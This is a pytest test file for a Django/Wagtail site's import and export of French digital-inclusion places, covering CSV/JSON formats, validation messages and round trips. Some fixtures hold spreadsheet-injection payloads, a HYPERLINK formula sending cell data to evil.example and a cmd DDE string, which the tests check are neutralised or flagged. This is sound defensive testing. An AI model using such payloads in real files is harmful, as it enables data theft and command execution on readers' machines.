import csv
import datetime
import io
import json
from pathlib import Path

import pytest
import time_machine

from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from wagtail.models import PageViewRestriction

from structures import standard
from structures.exchange import (
    FALLBACK_STRUCTURE_TITLE,
    FileRefused,
    export_records,
    import_records,
    read_bytes,
    read_path,
    write_csv,
)
from structures.factories import LieuPageFactory, StructurePageFactory
from structures.models import LieuPage, StructureIndexPage, StructurePage, Term, Vocabulary
from website.imports import Action

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "standard"
VALID_EXAMPLE = FIXTURES / "exemple-valide.csv"
V0_SAMPLE = FIXTURES / "bus-france-services-charente-v0.json"
V0_SOURCE = "Bus France Services en Charente"
NOW = datetime.datetime(2026, 5, 4, 10, tzinfo=datetime.UTC)

pytestmark = pytest.mark.usefixtures("frozen_time")


@pytest.fixture
def frozen_time():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def structure(home):
    return StructurePageFactory(
        parent=StructureIndexPage.objects.get(),
        title="CCAS de La Ravoire",
        siret_ou_rna="73282932000074",
        commune="La Ravoire",
        code_postal="73490",
    )


def make_lieu(structure, **fields):
    defaults = {
        "title": "Espace numérique du Piochet",
        "adresse": "Quartier du Piochet",
        "commune": "La Ravoire",
        "code_postal": "73490",
        "latitude": 45.56291,
        "longitude": 5.96402,
        "telephone": "04 65 71 00 02",
        "courriel": "accueil@clef.example.org",
        "horaires": "Fr 09:00-12:00; PH off",
        "term_codes": ["CCAS", "EPN", "Aide aux démarches administratives", "Gratuit", "Fixe"],
    }
    return LieuPageFactory(parent=structure, **{**defaults, **fields})


def csv_records(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def export(fmt: str = "csv") -> str:
    out = io.StringIO()
    call_command("export_lieux", "--format", fmt, stdout=out)
    return out.getvalue()


def run_import(path, *args) -> str:
    out = io.StringIO()
    call_command("import_lieux", str(path), *args, stdout=out)
    return out.getvalue()


def write_file(tmp_path, name: str, content: str | bytes) -> Path:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def v1_csv(*rows: dict) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=standard.COLUMNS, quoting=csv.QUOTE_ALL)
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return buffer.getvalue()


def record(**values) -> dict:
    base = {
        "id": "espace-1",
        "pivot": "00000000000000",
        "nom": "Espace numérique",
        "commune": "Chambéry",
        "code_postal": "73000",
        "adresse": "1 rue de la République",
        "date_maj": "2026-03-01",
        "source": "Réseau test",
        "services": "Aide aux démarches administratives",
    }
    return {**base, **values}


def import_text(tmp_path, text: str, name: str = "lieux.csv", **options):
    return import_records(read_path(write_file(tmp_path, name, text)), **options)


def actions(report) -> list[Action]:
    return [outcome.action for outcome in report.outcomes]


def terms(page: LieuPage, vocabulary: Vocabulary) -> list[str]:
    return [term.code for term in page.terms_of(vocabulary)]


# --- Export ------------------------------------------------------------------------------------


def test_export_writes_the_32_columns_in_the_schemas_order_with_the_standards_strings(structure):
    lieu = make_lieu(structure, presentation_resume="Permanence numérique du vendredi.")
    text = export("csv")
    assert text.splitlines()[0] == ",".join(f'"{column}"' for column in standard.COLUMNS)
    [row] = csv_records(text)
    assert row["id"] == f"Relais:relais-lieu-{lieu.pk}"
    assert row["source"] == "Relais"
    assert row["nom"] == "Espace numérique du Piochet"
    assert row["pivot"] == "73282932000074"  # the structure's SIRET, the place having none
    assert row["structure_parente"] == "CCAS de La Ravoire"
    assert row["typologie"] == "CCAS|EPN"
    assert row["services"] == "Aide aux démarches administratives"
    assert row["frais_a_charge"] == "Gratuit"
    assert row["itinerance"] == "Fixe"
    assert row["telephone"] == "+33465710002"
    assert row["courriels"] == "accueil@clef.example.org"
    assert row["date_maj"] == "2026-05-04"
    assert row["latitude"] == "45.56291"
    assert row["horaires"] == "Fr 09:00-12:00; PH off"
    assert row["modalites_acces"] == ""


def test_the_pivot_is_the_places_own_then_its_structures_then_the_unknown_pivot(home):
    index = StructureIndexPage.objects.get()
    with_siret = StructurePageFactory(parent=index, siret_ou_rna="W732001234")
    without = StructurePageFactory(parent=index, siret_ou_rna="")
    make_lieu(with_siret, title="A", pivot="73282932000074")
    make_lieu(with_siret, title="B")
    make_lieu(without, title="C")
    pivots = {record["nom"]: record["pivot"] for record in export_records()}
    assert pivots == {"A": "73282932000074", "B": "W732001234", "C": "00000000000000"}


def test_only_live_public_places_are_exported(structure):
    make_lieu(structure, title="Publié")
    make_lieu(structure, title="Brouillon", live=False)
    private = make_lieu(structure, title="Réservé")
    PageViewRestriction.objects.create(page=private, restriction_type="login")
    assert [record["nom"] for record in export_records()] == ["Publié"]


def test_json_export_is_a_list_of_objects_with_numbers_and_without_empty_values(structure):
    make_lieu(structure, longitude=-0.008588)
    [item] = json.loads(export("json"))
    assert item["latitude"] == 45.56291
    assert item["longitude"] == -0.008588
    assert item["typologie"] == "CCAS|EPN"
    assert "modalites_acces" not in item and "code_insee" not in item
    assert list(item) == [column for column in standard.COLUMNS if column in item]


def test_csv_export_neutralises_formulas_but_keeps_phones_and_negative_coordinates(structure):
    make_lieu(
        structure,
        title='=HYPERLINK("http://evil.example/?v="&A1;"Cliquez")',
        presentation_resume="@SUM(1+1)*cmd|' /C calc'!A0",
        presentation_detail="-2+3",
        longitude=-0.008588,
        telephone="01 80 05 98 80",
    )
    [row] = csv_records(export("csv"))
    assert row["nom"] == """'=HYPERLINK("http://evil.example/?v="&A1;"Cliquez")"""
    assert row["presentation_resume"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["presentation_detail"] == "'-2+3"
    assert row["telephone"] == "+33180059880"
    assert row["longitude"] == "-0.008588"


def test_exporting_30_places_costs_the_same_few_queries_as_3(home):
    index = StructureIndexPage.objects.get()

    def queries_for(count: int) -> int:
        LieuPage.objects.all().delete()
        structures = [StructurePageFactory(parent=index) for _number in range(3)]
        for number in range(count):
            make_lieu(structures[number % 3], title=f"Lieu {number}")
        with CaptureQueriesContext(connection) as queries:
            records = list(export_records())
        assert len(records) == count
        assert {record["structure_parente"] for record in records} == {s.title for s in structures}
        return len(queries)

    assert queries_for(3) == queries_for(30) <= 4


def test_export_command_writes_a_file_and_says_how_many_places(structure, tmp_path):
    make_lieu(structure)
    target = tmp_path / "lieux.json"
    err = io.StringIO()
    call_command("export_lieux", "--format", "json", "--output", str(target), stderr=err)
    assert len(json.loads(target.read_text(encoding="utf-8"))) == 1
    assert "1 lieu exporté" in err.getvalue()


# --- Import: the two sample files --------------------------------------------------------------


def test_the_standards_valid_example_imports_with_every_column(home):
    output = run_import(VALID_EXAMPLE)
    lieu = LieuPage.objects.get()
    assert lieu.live
    assert lieu.title == "Anonymal"
    assert lieu.identifiant == "Hubik:structure-1"
    assert lieu.source == "Hubik"
    assert lieu.date_maj == datetime.date(2024, 4, 2)  # the file's date, not today's
    assert (lieu.commune, lieu.code_postal, lieu.code_insee) == ("Reims", "51100", "51454")
    assert lieu.adresse == "12 BIS RUE DE LECLERCQ"
    assert lieu.complement_adresse == "Le patio du bois de l'Aulne"
    assert (lieu.latitude, lieu.longitude) == (43.52609, 5.41423)
    assert lieu.pivot == "43493312300029"
    assert lieu.telephone == "01 80 05 98 80"
    assert lieu.courriel == "contact@laquincaillerie.tl"
    assert lieu.site_web == "https://www.laquincaillerie.tl/"
    assert lieu.horaires == "Mo-Fr 09:00-12:00,14:00-18:30; Sa 08:30-12:00"
    assert lieu.presentation_resume.startswith("Notre association propose")
    assert lieu.presentation_detail.endswith("dans la médiathèque XX.")
    assert lieu.structure_parente == "SIRET de la ville pour une bibliothèque."
    assert lieu.autres_formations_labels == "Label et la bête"
    assert lieu.fiche_acces_libre.startswith("https://acceslibre.beta.gouv.fr/")
    assert lieu.prise_rdv == "https://www.rdv-solidarites.fr/"
    assert terms(lieu, Vocabulary.TYPOLOGIE) == ["ASSO", "TIERS_LIEUX"]
    assert terms(lieu, Vocabulary.ITINERANCE) == ["Itinérant"]
    assert len(terms(lieu, Vocabulary.SERVICES)) == 3
    assert terms(lieu, Vocabulary.PUBLICS) == ["Jeunes", "Femmes"]
    assert len(terms(lieu, Vocabulary.PRISE_EN_CHARGE)) == 3
    assert terms(lieu, Vocabulary.FRAIS) == ["Gratuit sous condition", "Payant"]
    assert len(terms(lieu, Vocabulary.DISPOSITIFS)) == 3
    assert len(terms(lieu, Vocabulary.FORMATIONS)) == 2
    assert terms(lieu, Vocabulary.MODALITES_ACCES) == ["Se présenter", "Téléphoner"]
    assert len(terms(lieu, Vocabulary.MODALITES_ACCOMPAGNEMENT)) == 4
    assert lieu.get_parent().title == FALLBACK_STRUCTURE_TITLE
    # Every e-mail and web site is kept, the first ones in the main fields.
    assert lieu.all_courriels == ["contact@laquincaillerie.tl", "responsable@laquincaillerie.tl"]
    assert lieu.all_sites_web == [
        "https://www.laquincaillerie.tl/",
        "https://m.facebook.com/laquincaillerienumerique/",
    ]
    assert "Structure « Lieux importés » créée" in output
    assert "1 créé" in output


def test_the_v0_sample_imports_its_12_stops_with_the_flags_its_readme_describes(home):
    report = import_records(read_path(V0_SAMPLE))
    assert report.count(Action.CREATED) == 12
    assert "format v0" in report.lines()[0]
    # date_maj 1969-12-31 everywhere: kept (the file's only date) and flagged.
    assert all(
        any("date de mise à jour suspecte (31/12/1969)" in flag for flag in outcome.flags)
        for outcome in report.outcomes
    )
    lieux = {lieu.identifiant: lieu for lieu in LieuPage.objects.all()}
    assert sorted(lieux) == sorted(f"{V0_SOURCE}:{number}" for number in range(1, 13))
    assert {lieu.date_maj for lieu in lieux.values()} == {datetime.date(1969, 12, 31)}
    # Stop 4 (Valence, 16460) sits near Marseille: its point is dropped, the others are kept.
    [far] = [o for o in report.outcomes if any("km des autres lieux" in f for f in o.flags)]
    assert far.key == "4"
    assert any("département 16" in flag for flag in far.flags)
    valence = lieux[f"{V0_SOURCE}:4"]
    assert (valence.latitude, valence.longitude) == (None, None)
    assert valence.commune == "Valence"
    saint_fraigne = lieux[f"{V0_SOURCE}:1"]
    assert (saint_fraigne.latitude, saint_fraigne.longitude) == (45.952791, -0.008588)
    # Old service labels become the v1 ones; labels_nationaux split into dispositifs and others.
    assert terms(saint_fraigne, Vocabulary.SERVICES) == [
        "Aide aux démarches administratives",
        "Insertion professionnelle via le numérique",
        "Accès internet et matériel informatique",
    ]
    assert terms(saint_fraigne, Vocabulary.DISPOSITIFS) == [
        "Conseillers numériques",
        "France Services",
    ]
    assert saint_fraigne.autres_formations_labels == "APTIC|ZRR"
    assert terms(saint_fraigne, Vocabulary.TYPOLOGIE) == ["RFS"]
    assert saint_fraigne.fiche_acces_libre.endswith("/mairie-saint-fraigne/")
    assert saint_fraigne.horaires == "week 1-53/2 Mo 09:30-12:30,13:30-15:30; PH off"
    assert saint_fraigne.telephone == "06 30 39 25 18"
    assert saint_fraigne.pivot == ""  # 00000000000000: unknown, not stored as a number
    assert not any("service" in flag for outcome in report.outcomes for flag in outcome.flags)
    # Four stops share one name: each gets its own address in the tree.
    assert len({lieu.url_path for lieu in lieux.values()}) == 12


def test_reimporting_the_same_file_duplicates_nothing_and_says_it_is_up_to_date(home):
    run_import(V0_SAMPLE)
    pks = set(LieuPage.objects.values_list("pk", flat=True))
    output = run_import(V0_SAMPLE)
    assert set(LieuPage.objects.values_list("pk", flat=True)) == pks
    assert "0 créé" in output and "12 inchangés" in output
    assert StructurePage.objects.filter(title=FALLBACK_STRUCTURE_TITLE).count() == 1


def test_a_changed_record_updates_the_same_page(home, tmp_path):
    run_import(V0_SAMPLE)
    data = json.loads(V0_SAMPLE.read_text(encoding="utf-8"))
    data[0]["horaires"] = "Mo 09:00-12:00; PH off"
    data[0]["nom"] = "Bus France Services - Place de l'église"
    before = LieuPage.objects.get(identifiant=f"{V0_SOURCE}:1")
    report = import_records(
        read_path(write_file(tmp_path, "bus.json", json.dumps(data, ensure_ascii=False)))
    )
    assert (report.count(Action.UPDATED), report.count(Action.UNCHANGED)) == (1, 11)
    after = LieuPage.objects.get(identifiant=f"{V0_SOURCE}:1")
    assert after.pk == before.pk
    assert (after.title, after.horaires) == (data[0]["nom"], "Mo 09:00-12:00; PH off")
    assert after.live and not after.has_unpublished_changes
    assert LieuPage.objects.count() == 12


def test_dry_run_reports_everything_and_writes_nothing(home):
    output = run_import(V0_SAMPLE, "--dry-run")
    assert "12 créés" in output and "rien n'a été enregistré" in output
    assert "km des autres lieux" in output
    assert not LieuPage.objects.exists()
    assert not StructurePage.objects.filter(title=FALLBACK_STRUCTURE_TITLE).exists()


# --- Import: bad files -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("encodage-windows-1252.csv", "n’est pas encodé en UTF-8"),
        ("colonne-obligatoire-absente.csv", "Colonnes obligatoires absentes : adresse"),
        ("pas-une-liste.json", "n’est pas une liste d’objets"),
        ("json-illisible.json", "JSON illisible, ligne 1"),
        ("image.png", "ni un CSV ni un JSON"),
    ],
)
def test_a_broken_file_is_refused_with_one_french_message_and_nothing_written(home, name, message):
    structures = StructurePage.objects.count()
    with pytest.raises(CommandError, match=message):
        run_import(FIXTURES / name)
    assert not LieuPage.objects.exists()
    assert StructurePage.objects.count() == structures


def test_a_file_over_50_mb_is_refused_before_it_is_read(home, tmp_path):
    path = tmp_path / "enorme.csv"
    with path.open("wb") as stream:
        stream.truncate(50 * 1024 * 1024 + 1)  # sparse: nothing is really written
    with pytest.raises(CommandError, match="au-delà de la limite de 50 Mo"):
        run_import(path)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "Le fichier est vide."),
        (b"[1, 2, 3]", "n’est pas une liste d’objets"),
        (b'[{"id": "1", "nom": "Espace"}]', "Colonnes obligatoires absentes : pivot, commune"),
        (b"<html><body>Bonjour</body></html>", "Colonnes obligatoires absentes"),
    ],
)
def test_other_files_that_are_not_the_standard_are_refused(content, message):
    with pytest.raises(FileRefused, match=message):
        read_bytes(content, name="lieux")


def test_an_unknown_structure_slug_is_refused(home):
    with pytest.raises(
        CommandError, match="Aucune structure n’a l’identifiant d’URL « nulle-part »"
    ):
        run_import(VALID_EXAMPLE, "--structure", "nulle-part")


# --- Import: records ---------------------------------------------------------------------------


def test_a_bad_record_is_skipped_with_its_reason_and_the_others_are_imported(home, tmp_path):
    text = v1_csv(
        record(id="bon-1"),
        record(id="sans-nom", nom=""),
        record(id="mauvais-cp", code_postal="7300"),
        record(id="date-illisible", date_maj="le 3 mars"),
        record(id="bon-1", nom="Doublon"),
        record(id="bon-2", adresse="2 rue de la République"),
    )
    text += '"trop","de","valeurs"' + ',"x"' * 40 + "\n"
    report = import_text(tmp_path, text)
    actions = {outcome.where: outcome.action for outcome in report.outcomes}
    assert actions == {
        "ligne 2": Action.CREATED,
        "ligne 3": Action.SKIPPED,
        "ligne 4": Action.SKIPPED,
        "ligne 5": Action.SKIPPED,
        "ligne 6": Action.SKIPPED,
        "ligne 7": Action.CREATED,
        "ligne 8": Action.SKIPPED,
    }
    lines = "\n".join(report.lines())
    assert "Ligne 3, sans-nom : ignoré. Valeur obligatoire absente : nom." in lines
    assert "Code postal « 7300 » invalide" in lines
    assert "Date de mise à jour « le 3 mars » illisible" in lines
    assert "Identifiant « bon-1 » déjà rencontré plus haut dans le fichier" in lines
    assert "plus de valeurs que l’en-tête" in lines
    assert LieuPage.objects.count() == 2


def test_suspicious_values_are_flagged_and_not_stored_silently(home, tmp_path):
    text = v1_csv(
        record(
            id="suspect",
            nom='=HYPERLINK("http://evil.example")',
            date_maj="2027-01-01",
            latitude="5.9",
            longitude="45.5",
            services="Aide aux démarches administratives|Réparer des vélos",
            horaires="lundi 9h-12h",
            pivot="12345678901234",
            telephone="+44 20 7946 0000",
            courriels="pas-un-courriel",
            code_insee="1234",
        ),
        record(id="hors-france", latitude="40.7", longitude="-74.0", date_maj="1999-12-31"),
    )
    report = import_text(tmp_path, text)
    suspect, abroad = report.outcomes
    assert suspect.action == abroad.action == Action.CREATED
    flags = " | ".join(suspect.flags)
    assert "date de mise à jour suspecte (01/01/2027)" in flags
    assert "latitude et longitude semblent inversées" in flags
    assert "valeur inconnue « Réparer des vélos » pour services" in flags
    assert "horaires « lundi 9h-12h » écartés : Horaires illisibles" in flags
    assert "pivot « 12345678901234 » : ni un SIRET ni un numéro RNA" in flags
    assert "téléphone « +44 20 7946 0000 » écarté" in flags
    assert "courriel « pas-un-courriel » invalide" in flags
    assert "code INSEE « 1234 » invalide" in flags
    assert "ressemble à une formule de tableur" in flags
    assert any("hors de France" in flag for flag in abroad.flags)
    assert any("suspecte (31/12/1999)" in flag for flag in abroad.flags)
    lieu = LieuPage.objects.get(identifiant="Réseau test:suspect")
    assert lieu.date_maj == datetime.date(2027, 1, 1)  # kept, flagged
    assert (lieu.latitude, lieu.longitude, lieu.horaires, lieu.pivot) == (None, None, "", "")
    assert (lieu.telephone, lieu.courriel, lieu.code_insee) == ("", "", "")
    assert terms(lieu, Vocabulary.SERVICES) == ["Aide aux démarches administratives"]
    assert len(report.flagged) == 2


def test_a_point_far_from_the_places_of_its_postcode_already_on_the_site_is_flagged(
    structure, tmp_path
):
    make_lieu(structure, title="Voisin 1", latitude=45.5629, longitude=5.9640)
    make_lieu(structure, title="Voisin 2", latitude=45.5700, longitude=5.9500)
    text = v1_csv(
        record(id="proche", code_postal="73490", latitude="45.56", longitude="5.97"),
        record(id="loin", code_postal="73490", latitude="48.85", longitude="2.35"),
    )
    report = import_text(tmp_path, text)
    near, far = report.outcomes
    assert not near.flagged
    assert any("km des autres lieux du code postal 73490" in flag for flag in far.flags)


def test_a_place_goes_under_the_structure_matching_its_pivot_then_its_parent_name(
    structure, tmp_path
):
    other = StructurePageFactory(
        parent=StructureIndexPage.objects.get(), title="Régie Coup de Pouce"
    )
    text = v1_csv(
        record(id="par-pivot", pivot="73282932000074"),
        record(id="par-nom", structure_parente="régie coup de pouce"),
        record(id="sans-structure", structure_parente="Inconnue"),
    )
    report = import_text(tmp_path, text)
    parents = {
        lieu.identifiant.split(":")[1]: lieu.get_parent().specific
        for lieu in LieuPage.objects.all()
    }
    assert parents["par-pivot"] == structure
    assert parents["par-nom"] == other
    assert parents["sans-structure"].title == FALLBACK_STRUCTURE_TITLE
    lines = "\n".join(report.lines())
    assert "dont le SIRET ou RNA est le pivot du lieu" in lines
    assert "« Régie Coup de Pouce », sa structure parente" in lines
    assert "aucune structure ne correspond à son pivot ni à sa structure parente" in lines


def test_the_structure_option_puts_every_new_place_under_that_structure(structure, tmp_path):
    path = write_file(
        tmp_path, "lieux.csv", v1_csv(record(id="a"), record(id="b", pivot="W732001234"))
    )
    output = run_import(path, "--structure", structure.slug)
    assert {lieu.get_parent().pk for lieu in LieuPage.objects.all()} == {structure.pk}
    assert "la structure demandée" in output


def test_ids_are_namespaced_by_source_so_files_numbering_from_one_never_collide(home, tmp_path):
    first = json.dumps([record(id="1", source="Bus de Charente")])
    second = json.dumps([record(id="1", source="Médiathèques de Savoie")])
    import_text(tmp_path, first, "a.json")
    import_text(tmp_path, second, "b.json")
    assert sorted(LieuPage.objects.values_list("identifiant", flat=True)) == [
        "Bus de Charente:1",
        "Médiathèques de Savoie:1",
    ]


def test_a_record_without_source_takes_the_files_name_as_source(home, tmp_path):
    import_text(tmp_path, v1_csv(record(id="7", source="")), "annuaire-savoie.csv")
    lieu = LieuPage.objects.get()
    assert (lieu.identifiant, lieu.source) == ("annuaire-savoie:7", "annuaire-savoie")


def test_dated_exports_without_source_update_the_places_of_the_earlier_file(home, tmp_path):
    october = v1_csv(
        record(id="1", nom="Espace du Piochet", source=""),
        record(id="2", nom="Point numérique des Épinettes", source=""),
    )
    import_text(tmp_path, october, "lieux-2026-10.csv")
    november = v1_csv(
        record(id="1", nom="Espace du Piochet", source="", adresse="2 rue du Piochet"),
        record(id="2", nom="Point numérique des Épinettes", source=""),
        record(id="3", nom="Régie Coup de Pouce", source=""),
    )
    report = import_text(tmp_path, november, "lieux-2026-11.csv")
    assert actions(report) == [Action.UPDATED, Action.UNCHANGED, Action.CREATED]
    line = report.outcomes[0].line()
    assert "le lieu déjà importé sous la source « lieux-2026-10 »" in line
    assert "(l’option --source lieux-2026-10 désigne cette source)" in line
    assert sorted(LieuPage.objects.values_list("identifiant", "source", "adresse")) == [
        ("lieux-2026-10:1", "lieux-2026-10", "2 rue du Piochet"),
        ("lieux-2026-10:2", "lieux-2026-10", "1 rue de la République"),
        ("lieux-2026-11:3", "lieux-2026-11", "1 rue de la République"),
    ]
    # A third month finds each place under the source it was first imported with.
    report = import_text(tmp_path, november, "lieux-2026-12.csv")
    assert report.count(Action.UNCHANGED) == 3
    assert LieuPage.objects.count() == 3


def test_another_files_place_with_the_same_number_but_another_name_is_another_place(home, tmp_path):
    import_text(tmp_path, v1_csv(record(id="1", nom="Bus numérique", source="")), "a.csv")
    import_text(tmp_path, v1_csv(record(id="1", nom="Médiathèque", source="")), "b.csv")
    elsewhere = v1_csv(record(id="1", nom="Bus numérique", source="", code_postal="73490"))
    import_text(tmp_path, elsewhere, "c.csv")
    assert sorted(LieuPage.objects.values_list("identifiant", "title", "code_postal")) == [
        ("a:1", "Bus numérique", "73000"),
        ("b:1", "Médiathèque", "73000"),
        ("c:1", "Bus numérique", "73490"),
    ]


def test_finding_the_earlier_files_places_costs_the_same_queries_for_3_or_12(home, tmp_path):
    def month(count: int, name: str):
        rows = [record(id=str(n), nom=f"Espace {n}", source="") for n in range(count)]
        return import_text(tmp_path, v1_csv(*rows), name)

    costs = []
    for count in (3, 12):
        month(count, f"lieux-{count}-a.csv")
        with CaptureQueriesContext(connection) as queries:
            report = month(count, f"lieux-{count}-b.csv")
        assert report.count(Action.UNCHANGED) == count
        costs.append(len(queries))
    assert costs[0] == costs[1]


def test_a_name_or_id_with_a_nul_character_spoils_its_own_record_only(home, tmp_path):
    import_text(tmp_path, v1_csv(record(id="1", nom="Bus numérique", source="")), "a.csv")
    hostile = json.dumps(
        [
            record(id="1", nom="Bus\x00numérique", source=""),
            record(id="1\x00", nom="Bus numérique", source=""),
            record(id="2", nom="Médiathèque", source=""),
        ]
    )
    report = import_text(tmp_path, hostile, "b.json")
    assert actions(report) == [Action.SKIPPED, Action.SKIPPED, Action.CREATED]
    assert "Caractère nul dans l’identifiant ou le nom" in report.outcomes[1].line()
    assert LieuPage.objects.get(identifiant="a:1").title == "Bus numérique"


def test_a_record_naming_its_source_is_never_matched_to_another_sources_place(home, tmp_path):
    import_text(tmp_path, v1_csv(record(id="1", source="")), "annuaire.csv")
    import_text(tmp_path, v1_csv(record(id="1", source="Cartographie nationale")), "b.csv")
    assert sorted(LieuPage.objects.values_list("identifiant", flat=True)) == [
        "Cartographie nationale:1",
        "annuaire:1",
    ]


def test_a_bom_semicolons_and_json_lists_are_all_read(home, tmp_path):
    header = ";".join(
        ["id", "pivot", "nom", "commune", "code_postal", "adresse", "date_maj", "services"]
    )
    row = ";".join(
        [
            "x",
            "",
            "Espace",
            "Annecy",
            "74000",
            "Rue Royale",
            "2026-01-05",
            '"Aide aux démarches administratives|Loisirs et créations numériques"',
        ]
    )
    import_records(read_bytes(("\ufeff" + header + "\n" + row + "\n").encode(), name="bom.csv"))
    from_json = json.dumps(
        [
            record(
                id="y",
                code_postal=1000,
                commune="Bourg-en-Bresse",
                services=["Utilisation sécurisée du numérique", "Compréhension du monde numérique"],
            )
        ]
    )
    import_records(read_bytes(from_json.encode(), name="liste.json"))
    annecy = LieuPage.objects.get(commune="Annecy")
    assert len(terms(annecy, Vocabulary.SERVICES)) == 2
    bourg = LieuPage.objects.get(commune="Bourg-en-Bresse")
    assert bourg.code_postal == "01000"
    assert len(terms(bourg, Vocabulary.SERVICES)) == 2


def test_an_update_keeps_what_the_file_does_not_describe(home, tmp_path):
    import_text(tmp_path, v1_csv(record(id="z", horaires="Mo 10:00-12:00")))
    lieu = LieuPage.objects.get()
    lieu.terms = [*lieu.terms.all(), *equipment_terms("Wifi")]
    lieu.acces = "Tram A, arrêt Mairie"
    lieu.save_revision().publish()
    # A smaller file, without the horaires column: the hours and the equipment stay.
    small = "id,pivot,nom,commune,code_postal,adresse,date_maj,source\n"
    small += "z,,Espace rénové,Chambéry,73000,1 rue de la République,2026-04-01,Réseau test\n"
    report = import_text(tmp_path, small, "petit.csv")
    assert report.outcomes[0].action == Action.UPDATED
    lieu = LieuPage.objects.get()
    assert (lieu.title, lieu.horaires, lieu.acces) == (
        "Espace rénové",
        "Mo 10:00-12:00",
        "Tram A, arrêt Mairie",
    )
    assert terms(lieu, Vocabulary.EQUIPEMENTS) == ["Wifi"]
    assert lieu.date_maj == datetime.date(2026, 4, 1)


def equipment_terms(*codes):
    return list(Term.objects.filter(vocabulary=Vocabulary.EQUIPEMENTS, code__in=codes))


def test_long_imports_show_their_progress_on_a_terminal(home):
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    terminal = Terminal()
    import_records(read_path(V0_SAMPLE), progress_stream=terminal)
    assert "Import des lieux : 12/12" in terminal.getvalue()


# --- Round trip --------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_then_import_into_an_empty_site_then_export_gives_the_same_records(
    structure, tmp_path, fmt
):
    make_lieu(structure)
    make_lieu(
        structure,
        title='=HYPERLINK("http://evil.example")',
        presentation_resume="-> au fond de la cour",
        longitude=-0.008588,
        latitude=45.952791,
        code_postal="16140",
        commune="Saint-Fraigne",
        term_codes=["Itinérant", "Conseillers numériques", "Jeunes", "Se présenter"],
    )
    import_records(read_path(V0_SAMPLE))
    before = sorted(export_records(), key=lambda item: item["id"])
    assert len(before) == 14
    path = tmp_path / f"export.{fmt}"
    with path.open("w", encoding="utf-8", newline="") as stream:
        if fmt == "csv":
            write_csv(before, stream)
        else:
            stream.write(export(fmt))

    for page in StructurePage.objects.all():
        page.delete()
    assert not LieuPage.objects.exists()

    report = import_records(read_path(path))
    assert report.count(Action.CREATED) == 14
    after = sorted(export_records(), key=lambda item: item["id"])
    assert after == before


def test_the_sites_own_export_read_back_skips_its_own_places(structure, tmp_path):
    lieu = make_lieu(structure)
    path = tmp_path / "export.csv"
    path.write_text(export("csv"), encoding="utf-8")
    report = import_records(read_path(path))
    [outcome] = report.outcomes
    assert outcome.action == Action.SKIPPED
    assert f"Ce lieu a été créé sur ce site (« relais-lieu-{lieu.pk} »)" in outcome.line()
    assert LieuPage.objects.count() == 1
